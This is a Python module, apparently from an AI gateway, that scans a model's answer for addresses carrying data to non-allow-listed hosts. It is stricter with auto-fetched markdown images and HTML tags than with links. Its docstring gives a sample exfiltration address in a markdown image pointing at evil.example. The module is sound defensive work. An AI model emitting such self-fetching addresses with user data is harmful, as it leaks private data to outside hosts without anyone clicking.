"""Addresses in an answer that carry data to another host: `![](https://evil.example/?d=…)` needs nobody's click.

What a client fetches by itself (`image`: markdown images, sources and styles of HTML, definitions of references) is
judged more strictly than what somebody must click (`link`). An address carries data in its user part, in its query or
fragment, in a part of its path or a label of its host that is no name; and always where it holds a placeholder of this
gateway. Hosts of the allow-list, and what is below them, may be told anything.
"""

import re
from collections.abc import Collection, Iterator
from html import unescape
from typing import Final
from urllib.parse import unquote

from extproc.findings import Stretch

IMAGE: Final = "image"
LINK: Final = "link"
TYPES: Final = (IMAGE, LINK)

# characters of data that an address may carry nevertheless: a version, a page, a size
_FREE: Final = {IMAGE: 7, LINK: 47}
_WORDY: Final = {IMAGE: 15, LINK: 31}  # the longest part of a path or a host that may look like data

_URL = re.compile(
    r"(?i)(?:(?<![a-z0-9+.-])(?:https?|wss?|ftp)(?::|&colon;|&#0*58;|&#x0*3a;)(?:[/\\]|&sol;|&#0*47;|&#x0*2f;){0,8}(?=[\w\[%&])"
    r"|(?<![\w:/\\.])[/\\]{2}(?=[\w-]{1,63}\.)|(?<![\w@/\\.-])www\.(?=\w))[^\s<>\"'`|\x00-\x1f]+"
)
_STARTS = re.compile(r"(?i)\A(?:(?:https?|wss?|ftp):)?[/\\]*")
_HOST = re.compile(r"[^/\\?#]*")
_PLAIN_HOST = re.compile(r"[a-z0-9._-]+")
_DEFINITION = re.compile(r"[ >]{0,8}\[[^\]\n]{1,100}\]:\Z")
_STYLE = re.compile(r"(?i)\burl\(\s{0,8}[\"']?\Z")
_TAG = re.compile(
    r"(?i)<(?:img|image|source|video|audio|track|iframe|embed|object|link|script|input|body|table|td|svg|use|base)\b[^>]*\Z"
)
_BEFORE: Final = 420  # characters that may say what an address is
_QUOTED: Final = 2000  # characters of an address in quotes
_BLANKS = re.compile(r"[\t\n\r ]+")
_CLOSES: Final = {")": "(", "]": "[", "}": "{"}
_TRAILS: Final = ".,;:!?*_"
_PLACEHOLDER = re.compile(r"(?i)(?:\[|%5b)[A-Z][A-Z0-9_]{1,60}_[a-z2-7]{6}(?:\]|%5d)")
_NAMED = re.compile(r"(?:[A-Z]?[^\W\dA-Z_]{0,20}|[A-Z]{1,8})\d{0,4}|\d{1,8}|\d{1,4}[a-z]{1,3}")
_BETWEEN = re.compile(r"[\W_]+")
_MOST_DIGITS: Final = 12
_LONGEST_NAME: Final = {IMAGE: 64, LINK: 160}
_PARTS = re.compile(r"[&;=]")


def find(text: str, allow: Collection[str]) -> list[Stretch]:
    """The addresses in `text` that carry data to a host not in `allow` (lower case). Linear in the text."""
    if "/" not in text and "\\" not in text and "www." not in text.lower() and "&" not in text:
        return []
    return [
        Stretch(start, end, "exfiltration", kind, 90 if kind == IMAGE else 70)
        for start, end, kind in _addresses(text)
        if carries(text[start:end], kind, allow)
    ]


def _addresses(text: str) -> Iterator[tuple[int, int, str]]:
    for found in _URL.finditer(text):
        start, end = found.start(), _end(found[0]) + found.start()
        kind = IMAGE if _is_fetched(text[max(0, start - _BEFORE) : start]) else LINK
        if kind == IMAGE and text[start - 1] in "\"'":  # clients leave out the line breaks of a quoted address
            closing = text.find(text[start - 1], start, start + _QUOTED)
            end = max(end, closing) if closing >= 0 else min(len(text), start + _QUOTED)
        yield start, end, kind


def _is_fetched(before: str) -> bool:
    """Whether clients fetch by themselves what stands behind `before`."""
    tail = before.rstrip(" \t\n<")
    if tail.endswith("]("):
        return _is_image(tail)
    if tail.endswith("]:"):
        return _DEFINITION.match(tail, tail.rfind("\n") + 1) is not None
    tag = before.rfind("<")
    return _STYLE.search(before[-16:]) is not None or (tag >= 0 and _TAG.match(before, tag) is not None)


def _is_image(tail: str) -> bool:
    """Whether an exclamation mark stands before the bracket that `](` closes."""
    depth = 0
    for place in range(len(tail) - 2, -1, -1):
        if tail[place] == "]":
            depth += 1
        elif tail[place] == "[":
            depth -= 1
            if depth == 0:
                return tail[place - 1 : place] == "!"
    return True  # the text before it is longer than what is looked back on: the stricter judgement


def _end(address: str) -> int:
    """Without the punctuation behind it and the bracket that closes around it."""
    depth = dict.fromkeys(_CLOSES.values(), 0)
    for place, character in enumerate(address):
        if character in depth:
            depth[character] += 1
        elif character in _CLOSES:
            depth[_CLOSES[character]] -= 1
            if depth[_CLOSES[character]] < 0:
                address = address[:place]
                break
    return len(address.rstrip(_TRAILS))


def carries(address: str, kind: str, allow: Collection[str]) -> bool:
    """Whether an address of that kind carries data to a host that may not be told any."""
    address = _BLANKS.sub("", unescape(address))
    rest = _STARTS.sub("", address, count=1)
    authority = _HOST.match(rest)[0]  # type: ignore[index]
    user, at, host = authority.rpartition("@")
    host = host.rpartition(":")[0] if re.search(r":\d*\Z", host) else host
    host = host.casefold().rstrip(".")
    plain = not at and _PLAIN_HOST.fullmatch(host) is not None
    if plain and any(host == each or host.endswith("." + each) for each in allow):
        return False
    if _PLACEHOLDER.search(address) or user:
        return True
    path, _, told = rest[len(authority) :].replace("#", "?").partition("?")
    if len(told) > _FREE[kind] and not all(_is_name(part, kind) for part in _PARTS.split(told)):
        return True
    parts = [*re.split(r"[/\\]", path), *host.split(".")[:-2]]
    return not all(len(part) <= _WORDY[kind] or _is_name(part, kind) for part in parts)


def _is_name(part: str, kind: str) -> bool:
    """Whether it is made of words and small numbers, as the names of pages and files are."""
    part = unquote(part)
    return (
        len(part) <= _LONGEST_NAME[kind]
        and "@" not in part
        and sum(map(str.isdigit, part)) <= _MOST_DIGITS
        and all(map(_NAMED.fullmatch, _BETWEEN.split(part)))
    )
